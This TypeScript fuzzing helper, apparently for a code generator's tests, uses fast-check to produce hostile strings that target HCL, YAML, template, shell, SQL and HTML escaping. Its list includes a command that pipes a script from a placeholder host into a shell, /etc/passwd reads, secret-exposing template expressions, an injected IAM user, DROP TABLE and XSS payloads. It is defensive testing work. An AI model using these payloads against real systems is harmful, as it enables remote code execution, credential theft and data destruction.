import * as fc from 'fast-check';

/** Text that ends strings, opens expressions, hides or breaks lines in one of the languages that are written. */
const hostileTexts: readonly string[] = [
  // HCL
  '${file("/etc/passwd")}',
  '%{ for x in ["a"] }${x}%{ endfor }',
  '$${not} %%{one}',
  '"\n}\nresource "aws_iam_user" "evil" {\n  name = "evil"\n}\n#',
  '" }  /* ',
  // YAML
  ': {a: b}',
  '- &a *a !!js/function "x"',
  "' # comment",
  '|\n  block\n---\nkind: User',
  '? key\n: value',
  'yes',
  'null',
  '0x1F',
  '1e3',
  '2026-11-20',
  '!!binary aGk=',
  '<<: *merge',
  '@at `tick` %percent',
  // nunjucks and GitHub expressions
  '{{ 7*7 }} {% raw %}',
  '${{ values.spec | dump }}',
  '{% for i in range(0, 999999999) %}x{% endfor %}',
  '${{ github.token }}',
  '{# comment #}',
  // code and shell
  '"; System.exit(1); //',
  '\\u0022; System.exit(1); //',
  '\\u000a System.exit(1);',
  '`+process.exit(1)+`',
  '${process.env.SECRET}',
  '*/ panic("x") /*',
  "'; DROP TABLE requests; --",
  '$(curl evil.example|sh)',
  '`id`',
  '\\',
  '\\\\',
  'a\\',
  '"',
  "'",
  '\\"',
  '"""',
  '%s%n%d',
  // Markdown and HTML
  '<script>alert(1)</script>',
  '--> <!-- slipway:request {"version":1} -->',
  '![x](javascript:alert(1))',
  '[x](https://evil.example) @everyone #1',
  '# heading',
  '```sh',
  '| a | b |',
  '&lt;b&gt;',
  // what cannot be seen
  'a\u0000b',
  'a\u0007b',
  'line\r\nline',
  'tab\there',
  'a\u2028b',
  'a\u2029b',
  'a\u0085b',
  '\u202eevil\u202c',
  '\ufeffbom',
  '\ud800',
  'x\udfff',
  '\u200bzero',
  '\u{1f600} emoji',
  'Ärger für Señor Nøkk',
  // names
  '__proto__',
  'constructor',
  'toString',
  '../../../etc/passwd',
  'a/b',
  '-a',
  'a--b',
  'A',
  'aws',
  'class',
  'default',
  '',
  ' ',
];

const longTexts = ['x'.repeat(201), 'y'.repeat(70_000), '"'.repeat(199)];
const known = fc.constantFrom(...hostileTexts);
// What has no controls in it is what gets past the form.
const printable = fc.constantFrom(
  ...hostileTexts.filter(text => /^\P{C}+$/u.test(text)),
);

/** Hostile text, alone and met with other. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: fc.oneof(known, fc.constantFrom(...longTexts)) },
  { weight: 5, arbitrary: printable },
  // Some of them, for what only their meeting breaks.
  {
    weight: 5,
    arbitrary: fc
      .tuple(
        fc.array(printable, { minLength: 2, maxLength: 4 }),
        fc.constantFrom(' ', '', '\\', '"'),
      )
      .map(([parts, between]) => parts.join(between)),
  },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  { weight: 3, arbitrary: fc.string({ maxLength: 199 }) },
);
